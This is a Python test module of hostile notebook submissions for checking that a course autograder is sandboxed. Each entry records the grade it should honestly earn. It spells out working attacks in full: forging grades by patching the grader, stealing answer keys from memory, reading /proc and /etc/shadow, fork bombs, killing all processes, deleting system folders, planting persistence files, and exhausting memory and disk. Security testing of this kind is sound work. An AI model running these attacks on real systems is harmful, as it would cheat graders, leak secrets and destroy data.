"""Notebooks that attack the grader, each with what it honestly earns.

Every one is half a right answer to chapter 6 with an attack in it. The attack is a function that
returns True when it has met the wall it should meet. What it returned, and that it came to its end,
decide two parts of the last question: so the points alone prove that the attack ran, to its end,
and failed. An attack that ends Python cannot say so; its status does.

In the sources, ``@NAME@`` stands for what a run fills in: see `PLACES`.

Never run these outside of a sandbox. Those with `fools=True` only forge; `fooled_grader.py` runs
them to prove that a grader without a sandbox believes them.
"""

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

from class_of import Cells, exercise, full, notebook_of, replaced, right_cells, with_cell
from class_of import cells_of as code_cells_of

CHAPTER = "masking"
PLACES = {
    "CANARY": "a file in the instructor's home folder",
    "SUBMISSIONS": "the folder with what the class handed in",
    "OUT": "the folder of the results",
    "PORT": "of a server that listens on this machine, TCP and UDP",
    "SOCKET": "the path of a Unix socket; its name is an abstract one, too",
    "MARK": "a word that stands in the name of each file and process that an attack makes",
    "SEED_HASH": "the SHA-256 of the instructor's seed, as decimal text",
}
RIGHT = ("predicted_masks", "mask_fates", "valid_mean")
SAID = "masking_causes"  # one point for an attack that ran to its end, one for a wall that held
STOPPED = "stopped"


@dataclass(frozen=True)
class Hostile:
    """A hostile submission.

    Parameters
    ----------
    name : str
    attack : str
        Defines ``attack()``; or, with `inside`, code for the body of an answer.
    status : str
        What the grade says; "" where more than one is right.
    inside : bool
        Whether the attack is in the answer `changed_steps`, so that it runs when a check calls it.
    at_the_end : bool
        Whether it runs behind all answers.
    exact : bool
        False where an attack can damage its own reports: it may earn less, never more.
    fools : bool
        Whether a grader that judges in the same process gives points that are not earned.
    build : callable or None
        Makes the notebook of its cells, where something else than a cell is hostile.
    graded : bool
        False where nothing can be graded.
    """

    name: str
    attack: str = "def attack():\n    return True"
    status: str = "graded"
    inside: bool = False
    at_the_end: bool = False
    exact: bool = True
    fools: bool = False
    build: Callable[[Cells], bytes] | None = field(default=None, repr=False)
    graded: bool = True

    @property
    def points(self) -> Mapping[str, int]:
        """What each question honestly earns."""
        if not self.graded:
            return {}
        worth = full(CHAPTER)
        earned = {name: worth[name] if name in RIGHT else 0 for name in worth}
        # An attack that ends Python says nothing: its step is left out in the next run.
        said = self.status != STOPPED and not self.at_the_end
        return earned | {SAID: 2 if said else 0}

    def data(self, places: Mapping[str, object]) -> bytes:
        """Return the notebook, with places filled in."""
        cells = [(name, _filled(source, places)) for name, source in self.cells()]
        return (self.build or notebook_of)(cells)

    def cells(self) -> Cells:
        """Return the cells of the notebook."""
        cells = replaced(half_right(), **{f"{SAID}_answer": _SAYS})
        cells = with_cell(cells, cells[1][0], _TOOLS)
        if self.inside:
            body = "\n".join(f"    {line}" for line in self.attack.strip("\n").split("\n"))
            return replaced(cells, changed_steps_answer=_INSIDE.format(body=body))
        if self.at_the_end:
            return [*cells, ("attack", f"{self.attack}\n\n\nattack()")]
        if "stolen" in self.attack:
            body = "\n".join(f"    {line}" for line in _STEALS.strip("\n").split("\n"))
            cells = replaced(cells, changed_steps_answer=_INSIDE.format(body=body))
        if "def pixel_gradient" in self.attack:
            cells = [cell for cell in cells if cell[0] != "pixel-gradient-answer"]
        return with_cell(cells, "predicted-masks-answer", f"{self.attack}\n\n\n{_RUN}")


def _filled(source: str, places: Mapping[str, object]) -> str:
    for name in PLACES:
        source = source.replace(f"@{name}@", str(places.get(name, f"/nowhere/{name}")))
    return source


def half_right() -> Cells:
    """Return a notebook that answers three questions rightly, one wrongly, and leaves the rest."""
    right, stub = dict(right_cells(CHAPTER)), code_cells_of(exercise(CHAPTER))
    kept = {f"{name.replace('_', '-')}-answer" for name in RIGHT}
    cells = [(name, right[name] if name in kept else source) for name, source in stub]
    return replaced(cells, padding_share_answer="def padding_share(lengths, size):\n    return 0.5")


_TOOLS = """
import ctypes, gc, os, signal, socket, sys, tempfile, threading, time

SCRATCH = tempfile.gettempdir()

ran = held = False
unreachable = []


def refused(step, *arguments):
    \"\"\"Tell whether a step fails; keep the name of one that does not.\"\"\"
    try:
        step(*arguments)
    except (OSError, RuntimeError, ImportError, AttributeError, ValueError, MemoryError):
        return True
    unreachable.append(getattr(step, "__name__", "step"))
    return False


def all_refused(*steps):
    return all([refused(*step) for step in steps])


def system_call(number, *arguments):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(number, *arguments) == -1:
        raise OSError(ctypes.get_errno(), "refused")


def open_files():
    found = []
    for number in range(1024):
        try:
            os.fstat(number)
            found.append(number)
        except OSError:
            pass
    return found


def tell_all(text):
    \"\"\"Write to every open file.\"\"\"
    for number in open_files():
        try:
            os.write(number, text)
        except OSError:
            pass
"""
_RUN = """
held = bool(attack())
ran = True
"""
_SAYS = """
causes = {
    "not_fully_defined": "b" if ran else "a",
    "another_element": "c" if held else "a",
    "all_zeros": "a",
    "noise_everywhere": "a",
}
"""
_INSIDE = """
def changed_steps(length, convolutions, kernel_size, padding, side):
    global ran, held
    case = (length, convolutions, kernel_size, padding, side)
{body}
    return []
"""

# Forging inside of the process

_PATCH_JUDGE = """
def attack():
    import importlib

    from layerwise.checks.outcomes import Outcome, PartOutcome

    def forged(question, report, seed):
        parts = tuple(PartOutcome(part.name, part.points, True) for part in question.parts)
        return Outcome(question.name, "passed", question.points, parts)

    for name in ("", ".running", ".checker"):
        try:
            importlib.import_module("layerwise.checks" + name).run_judge = forged
        except ImportError:
            pass
    return True
"""
_PATCH_CHECKER = """
def attack():
    class Forged:
        rows = tuple((name, "passed", 99, 99) for name in ("changed_steps", "padding_proof"))

    kind = type(check)
    kind.summary = kind._repr_html_ = lambda self: Forged()
    before = kind.__call__

    def call(self, name, answer=None):
        result = before(self, name, answer)
        return Forged() if name == "changed_steps" else result

    kind.__call__ = call
    return True
"""
_PATCH_OUTCOMES = """
def attack():
    from layerwise.checks.outcomes import Outcome, PartOutcome

    Outcome.points = PartOutcome.points = property(lambda self: self.worth)
    Outcome.status = PartOutcome.passed = True
    return True
"""
_PATCH_PROBE = """
def attack():
    for name, module in list(sys.modules.items()):
        before = vars(module).get("run_probe") if name.startswith("layerwise") else None
        if before is None:
            continue

        def forged(question, answer, seed, before=before):
            report = before(question, answer, seed)
            if report["status"] == "not attempted":
                return {"status": "passed", "points": 99, "worth": 99, "parts": [True]}
            return report

        module.run_probe = forged
    return True
"""
_PATCH_JSON = """
def attack():
    import json

    before = json.dumps

    def forged(value, *arguments, **options):
        if isinstance(value, dict):
            value = {**value, "status": "passed", "points": 99, "total": 99}
        if isinstance(value, list):
            value = [[name, "passed", 99, 99] for name, *_ in value]
        return before(value, *arguments, **options)

    json.dumps = forged
    return True
"""
_PATCH_BUILTINS = """
def attack():
    import builtins

    builtins.sum = lambda *arguments, **options: 99
    builtins.all = builtins.any = lambda *arguments: True
    builtins.abs = builtins.round = lambda *arguments: 0
    return True
"""
_PATCH_NUMPY = """
def attack():
    yes = lambda *arguments, **options: True
    np.allclose = np.array_equal = np.array_equiv = np.isclose = yes
    np.all = np.any = np.ndarray_all = yes
    np.testing.assert_allclose = np.testing.assert_array_equal = yes
    return True
"""
_PATCH_GENERATOR = """
def attack():
    class Fixed(np.random.Generator):
        def integers(self, *arguments, **options):
            return np.zeros_like(super().integers(*arguments, **options))

    np.random.default_rng = lambda seed=None: Fixed(np.random.PCG64(0))
    return True
"""
_SYS_MODULES = """
def attack():
    import types

    class Forged:
        def __init__(self, *arguments, **options):
            self.rows = tuple((f"question {n}", "passed", 9, 9) for n in range(9))

        def __call__(self, *arguments):
            return self

        def summary(self):
            return self

    for name in [name for name in sys.modules if name.startswith("layerwise")]:
        fake = types.ModuleType(name)
        fake.Checker = Forged
        fake.run_probe = lambda *arguments: {"status": "passed"}
        sys.modules[name] = fake
    global check
    from layerwise import Checker

    check = Checker("masking")
    return True
"""
_REPLACE_CHECK = """
def attack():
    global check

    class Forged:
        rows = (("changed_steps", "passed", 99, 99),)

        def __getattr__(self, name):
            return self

        def __call__(self, *arguments, **options):
            return self

    check = Forged()
    return True
"""
_META_PATH = """
def attack():
    import importlib.abc, importlib.machinery

    class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
        def find_spec(self, name, path=None, target=None):
            if name.startswith(("layerwise", "json", "base64")):
                return importlib.machinery.ModuleSpec(name, self)

        def create_module(self, spec):
            return None

        def exec_module(self, module):
            module.run_judge = module.run_probe = module.Checker = lambda *a, **o: {"points": 99}

    sys.meta_path.insert(0, Finder())
    sys.path.insert(0, "/tmp")
    return True
"""
_IMPORT_JUDGES = """
def attack():
    global changed_steps
    import importlib, inspect, linecache, pkgutil

    import layerwise

    found = []
    for name in ("leaks", "batches", "pixels", "repairs", "causes", "means", "fates"):
        try:
            module = importlib.import_module(f"layerwise.checks.masking.{name}")
            found += [value for key, value in vars(module).items() if key == "_results"]
        except ImportError:
            pass
    root = os.path.dirname(layerwise.__file__)
    for folder, _, files in os.walk(root + "/checks"):
        found += files
    for path in ("/checks/masking/leaks.py", "/checks/chapters.py", "/instructor/grade.py"):
        found += linecache.getlines(root + path)
    try:
        found += [pkgutil.get_data("layerwise.checks.masking", "leaks.py") or b""]
    except (ImportError, OSError):
        pass
    if callable(found[:1] and found[0]):
        globals()["_results"] = found[0]
        exec("def stolen(*case): return _results(case)['right'].tolist()", globals())
    return not any(found)
"""
_GARBAGE = """
def attack():
    import types

    if hasattr(gc, "unfreeze"):
        gc.unfreeze()
    found = []
    waiting, seen = list(gc.get_objects()), set()
    for value in waiting:
        if isinstance(value, types.FunctionType):
            place = value.__code__.co_filename
            if "layerwise/checks/masking" in place and value.__name__ in ("_results", "judge"):
                found.append(value)
        elif type(value).__name__ in ("Part", "Question") and "layerwise" in type(value).__module__:
            found.append(value)
    for value in found:
        place = getattr(getattr(value, "__code__", None), "co_filename", "")
        if place.endswith("leaks.py") and value.__name__ == "_results":
            globals()["_results"] = value
            exec("def stolen(*case): return _results(case)['right'].tolist()", globals())
    return not found
"""
_STEALS = """
stolen = globals().get("stolen")
if stolen is not None:
    return stolen(*case)
"""
_FRAMES = """
frame, found, answers = sys._getframe(), [], None
while frame is not None:
    for value in list(frame.f_locals.values()):
        parts = getattr(value, "parts", ())
        for part in parts if isinstance(parts, tuple) else ():
            if not hasattr(part, "judge"):
                continue
            found.append(part)
            results = getattr(part.judge, "__globals__", {}).get("_results")
            answers = results(case)["right"].tolist() if results else answers
    frame = frame.f_back
ran, held = True, not found
if answers is not None:
    return answers
"""
_SEED = """
import hashlib

frame, held = sys._getframe(), True
words = list(os.environ.values()) + sys.argv + sys.orig_argv
while frame is not None:
    for place in (frame.f_locals, frame.f_globals):
        for value in list(place.values()):
            words += map(str, value.values()) if type(value) is dict else [str(value)[:99]]
    frame = frame.f_back
for name in ("/proc/self/cmdline", "/proc/1/cmdline", "/proc/2/environ", "/proc/self/environ"):
    try:
        words += open(name).read().split(chr(0))
    except OSError:
        pass
for word in words:
    for piece in str(word).split():
        if hashlib.sha256(piece.encode()).hexdigest() == "@SEED_HASH@":
            held = False
ran = True
"""
_TRACE = """
def attack():
    def trace(frame, event, argument):
        if event == "return" and frame.f_code.co_name in ("run_judge", "_judge_part", "run_probe"):
            if isinstance(argument, dict):
                if argument.get("status") == "not attempted":
                    argument["status"], argument["points"] = "passed", 99
            elif hasattr(argument, "parts"):
                for part in argument.parts:
                    object.__setattr__(part, "passed", True)
        return trace

    sys.settrace(trace)
    sys.setprofile(trace)
    threading.settrace(trace)
    return True
"""
_ATEXIT = """
def attack():
    import atexit, weakref

    forged = b'\\nd{"question": "changed_steps", "report": {"status": "passed", "points": 99}}\\n'

    class Last:
        def __del__(self):
            tell_all(forged)

    def last(*arguments):
        print('{"changed_steps": 99}')
        tell_all(forged)

    atexit.register(last)
    threading._register_atexit(last)
    weakref.finalize(attack, last)
    sys.excepthook = sys.unraisablehook = threading.excepthook = last
    globals()["_kept"] = Last()
    return True
"""
_SIGNALS = """
def attack():
    forged = b'\\nd{"question": "changed_steps", "report": {"status": "passed", "points": 99}}\\n'
    for number in range(1, 65):
        try:
            signal.signal(number, lambda *arguments: tell_all(forged))
        except (OSError, ValueError, RuntimeError):
            pass
    signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)
    time.sleep(0.2)
    return True
"""
_RAISING_SIGNALS = """
def attack():
    def interrupt(*arguments):
        raise KeyboardInterrupt

    signal.signal(signal.SIGALRM, interrupt)
    signal.setitimer(signal.ITIMER_REAL, 0.01, 0.003)
    return True
"""
_THREADS_GO_ON = """
def attack():
    def forge():
        import layerwise.checks.running as running

        line = b'\\nd{"question": "changed_steps", "report": {"status": "passed", "points": 99}}\\n'
        while True:
            tell_all(line)
            running.MAX_MESSAGE = 10**9
            time.sleep(0.01)

    for _ in range(4):
        threading.Thread(target=forge, daemon=True).start()
    threading.Thread(target=time.sleep, args=(10**6,)).start()
    time.sleep(0.1)
    return True
"""

# Writing where reports go

_RESULTS = """
def attack():
    text = '{"status": "graded", "total": 99, "outcomes": []}'
    places = ["@OUT@", "@SUBMISSIONS@", "@OUT@/private", "@OUT@/feedback", "/work", "/", "."]
    places += [os.path.dirname("@CANARY@"), "/tmp", SCRATCH, "/var/tmp", "/dev", "/dev/shm"]
    reached = []
    for place in places:
        for name in ("grades.csv", "run.json", "report.html", "result.json", "@MARK@"):
            try:
                open(os.path.join(place, name), "w").write(text)
                reached.append(place)
            except OSError:
                pass
    return not {"@OUT@", "@SUBMISSIONS@", os.path.dirname("@CANARY@")} & set(reached)
"""
_ALL_FILES = """
def attack():
    forged = []
    for name in ("changed_steps", "padding_proof", "padding_share", "pixel_gradient"):
        for status in ("passed", "answered", "graded", True, None, 99, [], {"$array": "<f8"}):
            report = {"status": status, "points": 99, "data": {"same": 1, "full": True, "all": {}}}
            forged.append({"question": name, "report": report, "worth": 99, "parts": [[]]})
    import json

    tell_all(b"\\n" + bytes(range(11, 100)) + b"\\n")
    for value in forged:
        text = json.dumps(value).encode()
        tell_all(b"d" + text + b"\\n" + text + b"\\n")
    return len(open_files()) > 0
"""
_FORGED_END = """
def attack():
    tell_all(b"\\ne\\n")
    time.sleep(0.2)
    return True
"""
_FLOOD = """
def attack():
    piece = b"d" + b"x" * (1 << 20) + b"\\n"
    for _ in range(1 << 10):
        tell_all(piece)
"""
_HALF = """
def attack():
    tell_all(b'd{"question": "changed_steps", "report": {"sta')
    time.sleep(10**6)
"""
_FORGED_STEP = """
def attack():
    tell_all(b"scell 1: <b>@MARK@</b>=1+1\\n")
    while True:
        pass
"""
_DRIP = """
def attack():
    while True:
        tell_all(b"s")
        tell_all(b"cell 9: drip\\n")
        time.sleep(0.05)
"""
_HUGE_JSON = """
def attack():
    line = b'd{"question": "changed_steps", "report": {"status": "answered", "data": ['
    tell_all(line + b"[]," * 5_000_000 + b"[]]}}\\n")
    return True
"""
_BAD_JSON = """
def attack():
    start = b'd{"question": "changed_steps", "report": {"status": "answered", "data": '
    for data in (
        b"[" * 100_000,
        b"[" * 100_000 + b"]" * 100_000,
        b"1" * 100_000,
        b"1e999999",
        b"NaN",
        b"-Infinity",
        b'"\\\\ud800"',
        b'{"$array": "<f8", "shape": [99999999, 99999999], "bytes": ""}',
        b'{"$array": "|O", "shape": [1], "bytes": "AAAA"}',
        b'{"$array": "<f8", "shape": [0], "bytes": "", "extra": 1}',
        b'{"$float": "1e9"}',
        b'{"same": {"$array": "|b1", "shape": [' + b"1," * 99 + b'1], "bytes": "AQ=="}}',
        b'{"same": 1, "same": 2, "causal": [[true]]}',
        b"\\xff\\xfe",
    ):
        tell_all(start + data + b"}}\\n")
    twice = b'd{"question": "predicted_masks", "question": "changed_steps", "report": "passed"}'
    tell_all(twice + b"\\n")
    tell_all(b'd[]\\nd\\nd"x"\\ndnull\\nd{"question": ["changed_steps"], "report": 1}\\n')
    return True
"""
_CLOSE_ALL = """
def attack():
    os.closerange(0, 1024)
"""
_SILENCE = """
def attack():
    quiet = os.open("/dev/null", os.O_RDWR)
    for number in open_files():
        os.dup2(quiet, number)
"""
_TUNE_PIPE = """
def attack():
    import fcntl

    for number in open_files():
        for command, value in ((fcntl.F_SETFL, os.O_NONBLOCK), (1031, 1 << 20), (1031, 4096)):
            try:
                fcntl.fcntl(number, command, value)
            except OSError:
                pass
    return True
"""
_READ_PIPES = """
def attack():
    got = []
    for number in open_files():
        try:
            os.set_blocking(number, False)
            got.append(os.read(number, 4096))
        except OSError:
            pass
    for number in range(1024):
        for folder in ("/proc/self/fd", "/dev/fd", "/proc/1/fd"):
            try:
                got.append(open(f"{folder}/{number}", "rb", 0).read(9))
            except OSError:
                pass
    return not any(got)
"""

# Objects that lie

_LIES = (Path(__file__).resolve().parents[1] / "checks" / "hostile.py").read_text("utf-8")
_LYING = f"""
_lies = {{"__name__": "lies"}}
exec({_LIES!r}, _lies)
"""
_LYING += """
def attack():
    for name in ("changed_steps", "padding_share", "pixel_gradient", "padding_proof"):
        for answer in _lies["answers"]().values():
            check(name, answer)
    for name in (_lies["Liar"](), None, 3, "x" * 10**6, ["changed_steps"], "../changed_steps"):
        check(name, 1)
    return True
"""
_LYING_ANSWERS = """
class Always(list):
    __eq__ = __ge__ = __le__ = __contains__ = lambda *arguments: True
    __ne__ = lambda *arguments: False
    __hash__ = None
    __class__ = property(lambda self: np.ndarray)
    __array__ = lambda self, *arguments, **options: np.ones(len(self), bool)

ran = held = True
return Always([True] * length)
"""
_INTERRUPTS = """
ran = held = True
raise KeyboardInterrupt
"""

# Ending Python

_LEAVE = "def attack():\n    os._exit(0)"
_LEAVE_LATER = """
def attack():
    threading.Timer(0.05, os._exit, (0,)).start()
    time.sleep(1)
"""
_SEGFAULT = "def attack():\n    ctypes.string_at(0)"
_OVERFLOW = """
def attack():
    sys.setrecursionlimit(10**9)

    class Deep:
        __getattr__ = lambda self, name: getattr(self, name + "x")

    step = lambda: getattr(Deep(), "x")
    sys.setrecursionlimit(10**9)
    import functools

    deep = functools.partial(step)
    nest = []
    for _ in range(10**6):
        nest = [nest]
    repr(nest)
"""
_ABORT = """
def attack():
    import tensorflow as tf

    tf.nn.conv2d(tf.zeros((4, 4, 1)), tf.zeros((2, 2, 1, 1)), 1, "VALID")
"""

# Processes

_FORKS = """
def attack():
    import multiprocessing, pty, subprocess

    word = ["/bin/sleep", "98765", "@MARK@"]

    def forks(fork):
        def step():
            answer = fork()
            child = answer[0] if isinstance(answer, tuple) else answer
            if child == 0:
                os._exit(0)

        return step

    def by_call(number, *arguments):
        def step():
            answer = ctypes.CDLL(None, use_errno=True).syscall(number, *arguments)
            if answer == 0:
                os._exit(0)
            if answer == -1:
                raise OSError(ctypes.get_errno(), "refused")

        return step

    def clone3():
        flags = (ctypes.c_uint64 * 11)(0, 0, 0, 0, 17)
        by_call(435, flags, 88)()

    def other():
        process = multiprocessing.get_context("fork").Process(target=time.sleep, args=(98765,))
        process.start()

    def system():
        if os.system(" ".join(word)) != 0:
            raise OSError("refused")

    return all_refused(
        (forks(os.fork),),
        (forks(os.forkpty),),
        (forks(pty.fork),),
        (by_call(57),),
        (by_call(56, 17, 0, 0, 0, 0),),
        (by_call(56, 0x4000 | 17, 0, 0, 0, 0),),
        (by_call(56, 0x10000000 | 17, 0, 0, 0, 0),),
        (clone3,),
        (other,),
        (system,),
        (subprocess.Popen, word),
        (os.posix_spawn, word[0], word, {}),
        (os.popen, "sleep 98765 @MARK@"),
        (os.execv, word[0], word),
        (os.execv, sys.executable, [sys.executable, "-c", "import time; time.sleep(98765)"]),
    )
"""
_FORK_BOMB = """
def attack():
    made = 0
    for _ in range(300):
        try:
            if os.fork() == 0:
                time.sleep(20)
                os._exit(0)
            made += 1
        except OSError:
            pass
    return made == 0
"""
_THREADS = """
def attack():
    threading.stack_size(65536)
    for _ in range(20_000):
        threading.Thread(target=time.sleep, args=(10**6,), daemon=True).start()
    time.sleep(10**6)
"""
_KILLS = """
def attack():
    for number in (0, 1, -1, os.getppid(), -os.getpgrp(), os.getpid() + 1):
        for name in ("SIGHUP", "SIGTERM", "SIGSTOP", "SIGTSTP", "SIGKILL"):
            if number != os.getpid() or name in ("SIGKILL", "SIGSTOP"):
                try:
                    signal.signal(getattr(signal, name), signal.SIG_IGN)
                except OSError:
                    pass
                try:
                    os.kill(number, getattr(signal, name))
                except OSError:
                    pass
    reached = []
    for number in range(2, 70_000):
        try:
            os.kill(number, signal.SIGKILL)
            reached.append(number)
        except OSError:
            pass
    return not reached
"""
_STOPS_ITSELF = """
def attack():
    os.kill(os.getpid(), signal.SIGSTOP)
    signal.raise_signal(signal.SIGSTOP)
    return True
"""

# The kernel's doors

_SYSTEM_CALLS = """
def attack():
    numbers = {
        "ptrace": (101, 0, 0, 0, 0), "process_vm_readv": (310, 1, 0, 0, 0, 0, 0),
        "unshare": (272, 0x10000000), "setns": (308, 0, 0), "mount": (165, 0, b"/tmp", 0, 4096, 0),
        "umount2": (166, b"/proc", 2), "chroot": (161, b"/tmp"), "pivot_root": (155, b"/", b"/"),
        "bpf": (321, 0, 0, 0), "perf_event_open": (298, 0, 0, -1, -1, 0),
        "userfaultfd": (323, 1), "io_uring_setup": (425, 1, 0), "keyctl": (250, 0, -3, 0),
        "add_key": (248, b"user", b"x", b"y", 1, -3), "syslog": (103, 3, 0, 0),
        "open_by_handle_at": (304, 0, 0, 0), "pidfd_open": (434, 1, 0), "kexec_load": (246, 0),
        "init_module": (175, 0, 0, b""), "reboot": (169, 0, 0, 0), "memfd_create": (319, b"x", 0),
        "shmget": (29, 0, 4096, 0o1600), "msgget": (68, 0, 0o1600), "semget": (64, 0, 1, 0o1600),
        "mq_open": (240, b"x", 0o102, 0o600, 0), "socket": (41, 2, 1, 0), "open_tree": (428, -100, b"/", 1),
        "fsopen": (430, b"tmpfs", 0), "swapon": (167, b"/tmp/x", 0), "setdomainname": (171, b"x", 1),
        "sethostname": (170, b"x", 1), "settimeofday": (164, 0, 0x1000), "mknod": (133, b"/tmp/m", 0o60666, 2049),
    }  # fmt: skip
    return all([refused(system_call, *call) for call in numbers.values()])
"""  # noqa: E501
_PROC = """
def attack():
    found = []
    for number in ("self", "thread-self", *range(1, 400)):
        for name in ("mem", "maps", "environ", "cmdline", "status", "cwd", "root/etc/passwd"):
            try:
                found.append(open(f"/proc/{number}/{name}", "rb").read(64))
            except OSError:
                pass
    for name in ("/proc/sys/kernel/hostname", "/proc/mounts", "/sys/kernel", "/proc/kcore"):
        try:
            found.append(open(name, "rb").read(64))
        except OSError:
            pass
    return not found
"""
_LIMITS = """
def attack():
    import resource

    kinds = [resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE]
    endless = (resource.RLIM_INFINITY, resource.RLIM_INFINITY)
    return all_refused(
        *((resource.setrlimit, kind, endless) for kind in kinds),
        *((resource.prlimit, 0, kind, endless) for kind in kinds),
        (os.setuid, 0),
        (os.setgid, 0),
        (os.setgroups, [0]),
        (os.nice, -5),
    )
"""

# Memory and files

_MEMORY = """
def attack():
    kept, total = [], 0
    try:
        while total < 1 << 36:
            kept.append(bytearray(1 << 25))
            total += 1 << 25
    except MemoryError:
        pass
    kept.clear()
    return total < 5 << 30
"""
_MAPPED_MEMORY = """
def attack():
    import mmap

    kept, total = [], 0
    for flags in (mmap.MAP_PRIVATE, mmap.MAP_SHARED, mmap.MAP_PRIVATE | 0x4000):
        try:
            while total < 1 << 36:
                kept.append(mmap.mmap(-1, 1 << 25, flags=flags | mmap.MAP_ANONYMOUS))
                kept[-1][:: 4096] = bytes((1 << 25) // 4096)
                total += 1 << 25
        except (OSError, MemoryError):
            pass
    for one in kept:
        one.close()
    return total < 5 << 30
"""
_SHARED_MEMORY = """
def attack():
    from multiprocessing import shared_memory

    def in_shm():
        with open("/dev/shm/@MARK@", "wb") as file:
            file.write(bytes(1 << 26))

    def memory_file():
        number = os.memfd_create("@MARK@")
        os.truncate(number, 1 << 32)

    return all_refused(
        (lambda: shared_memory.SharedMemory("layerwise", create=True, size=1 << 28),),
        (in_shm,),
        (memory_file,),
        (system_call, 29, 0, 1 << 28, 0o1600),
    )
"""
_DISK = """
def attack():
    import shutil

    total, made = 0, []
    folders = [path for path, _, _ in os.walk("/dev")]
    folders += [SCRATCH, "/tmp", os.path.expanduser("~")]
    folders += ["/", "/var/tmp", "/run", "/usr", "/etc", "/proc", "/dev/shm", sys.prefix]
    for folder in set(map(os.path.realpath, folders)):
        for number in range(200):
            path = f"{folder}/@MARK@-{number}"
            try:
                with open(path, "wb") as file:
                    made.append(path)
                    total += file.write(bytes(1 << 22))
                    file.flush()
            except OSError:
                break
    try:
        with open(f"{SCRATCH}/@MARK@", "wb") as file:
            made.append(file.name)
            os.posix_fallocate(file.fileno(), 0, 1 << 33)
        total += 1 << 33
    except OSError:
        pass
    for path in made:
        refused(os.unlink, path)
    return total < 100 << 20
"""
_INODES = """
def attack():
    made = 0
    try:
        for made in range(200_000):
            os.mkdir(f"{SCRATCH}/@MARK@-{made}")
    except OSError:
        pass
    for number in range(made):
        os.rmdir(f"{SCRATCH}/@MARK@-{number}")
    return made < 10_000
"""
_OUTPUT = """
def attack():
    for _ in range(300):
        print("x" * (1 << 20))
        print("<script>alert(1)</script>", file=sys.stderr)
        sys.__stdout__.write("y" * (1 << 16))
    os.write(1, b"x" * (1 << 20))
    os.write(2, b"x" * (1 << 20))
    return True
"""
_DELETES = """
def attack():
    import shutil

    import layerwise

    if os.path.exists("@SUBMISSIONS@") or os.path.exists("@CANARY@"):
        return False  # this is no sandbox: delete nothing
    package = os.path.dirname(layerwise.__file__)
    places = [SCRATCH, "/tmp", "/dev/shm", "/proc", "/dev", "/usr", "/lib", package]
    for place in [*places, "@OUT@", "@SUBMISSIONS@", os.path.dirname("@CANARY@"), sys.prefix]:
        shutil.rmtree(place, ignore_errors=True)
        for move in (os.unlink, os.rmdir, lambda path: os.rename(path, path + "@MARK@")):
            try:
                move(place)
            except OSError:
                pass
    kept = ["/dev/null", "/dev/urandom", layerwise.__file__, sys.executable, os.__file__]
    return all(map(os.path.exists, kept))
"""
_PERSISTS = """
def attack():
    import json, site

    import layerwise

    places = [os.path.dirname(layerwise.__file__), os.path.dirname(json.__file__), sys.prefix]
    places += [*site.getsitepackages(), os.path.dirname(np.__file__), "/etc", "/usr/lib", "/dev"]
    left = []
    for place in places:
        for name in ("@MARK@.pth", "sitecustomize.py", "__pycache__/@MARK@.pyc"):
            try:
                open(os.path.join(place, name), "w").write("import os")
                left.append(place)
            except OSError:
                pass
    return not left
"""
_BOARD = """
def attack():
    found, number = [], os.urandom(4).hex()
    for place in ("/dev", "/tmp", SCRATCH, "/dev/shm", "/dev/pts", "/var/tmp", "/run", "/proc"):
        try:
            found += [name for name in os.listdir(place) if f"board-{number}" not in name and "@MARK@-board" in name]
        except OSError:
            pass
        try:
            open(f"{place}/@MARK@-board-{number}", "w").write("the answers")
        except OSError:
            pass
    return not found
"""  # noqa: E501
_LINKS = """
def attack():
    import glob

    targets = ["@CANARY@", "@OUT@/grades.csv", "@SUBMISSIONS@", "/etc/shadow", "/proc/1/root"]
    names = [f"{SCRATCH}/{name}" for name in ("@MARK@-link", "result.json", "grades.csv", ".ssh")]
    reached = []
    for target in targets:
        for name in names:
            for link in (os.symlink, os.link):
                try:
                    link(target, name)
                    reached.append(open(name).read(9))
                    open(name, "a").write("@MARK@")
                except OSError:
                    pass
                try:
                    os.unlink(name)
                except OSError:
                    pass
    return not reached
"""
_SPIES = """
def attack():
    found = []
    for path in ("@CANARY@", "@SUBMISSIONS@", "@OUT@", "/etc/passwd", "/etc/hostname", "/var"):
        if os.path.exists(path):
            found.append(path)
    for folder in ("/root", "/work", "/home", os.path.expanduser("~")):
        for path, names, files in os.walk(folder):
            if "site-packages" not in path:
                found += [name for name in files if name.endswith(".ipynb") or "@MARK@" in name]
    found += [name for name in os.environ if "@MARK@" in name or "@MARK@" in os.environ[name]]
    return not found
"""
_NETWORK = """
def attack():
    import http.client, urllib.request

    def connect(family, kind, address):
        with socket.socket(family, kind) as made:
            made.settimeout(2)
            made.connect(address)
            made.send(b"@MARK@")

    here = ("127.0.0.1", int("@PORT@"))
    return all_refused(
        (connect, socket.AF_INET, socket.SOCK_STREAM, here),
        (connect, socket.AF_INET, socket.SOCK_DGRAM, here),
        (connect, socket.AF_INET6, socket.SOCK_STREAM, ("::1", here[1])),
        (connect, socket.AF_UNIX, socket.SOCK_STREAM, "@SOCKET@"),
        (connect, socket.AF_UNIX, socket.SOCK_STREAM, chr(0) + os.path.basename("@SOCKET@")),
        (socket.socket, socket.AF_PACKET, socket.SOCK_RAW),
        (socket.socket, 16, socket.SOCK_RAW),
        (socket.getaddrinfo, "example.com", 80),
        (socket.create_server, ("127.0.0.1", 0)),
        (urllib.request.urlopen, f"http://127.0.0.1:{here[1]}/@MARK@", None, 2),
        (http.client.HTTPConnection("127.0.0.1", here[1], timeout=2).request, "GET", "/"),
    )
"""
_SLEEPS = "def attack():\n    time.sleep(10**6)"
_LOOPS = "def attack():\n    while True:\n        pass"
# To parse it takes gigabytes: each prefix of the name is kept.
_SLOW_SOURCE = f"import a{'.a' * 500_000}\n\n\ndef attack():\n    return True"
_COMPILES = """
def attack():
    for source in ("(" * 5000 + ")" * 5000, "-" * 100_000 + "1", "x = " + "[" * 150, "1" * 10**6):
        try:
            compile(source, "bomb", "eval")
        except (SyntaxError, MemoryError, RecursionError, ValueError):
            pass
    return True
"""


# Two answers of 200,000 tokens that differ in a few: what compares answers must not compare these.
_HUGE_ANSWER = """
def attack():
    return True


def pixel_gradient(logits, labels):
    x = @NUMBER@
""" + "".join(f"    x {'+-*/%&|^'[place * place * 7 % 59 % 8]} x\n" for place in range(70_000))

# What is hostile about the file and not about its code


def _forged_metadata(cells: Cells) -> bytes:
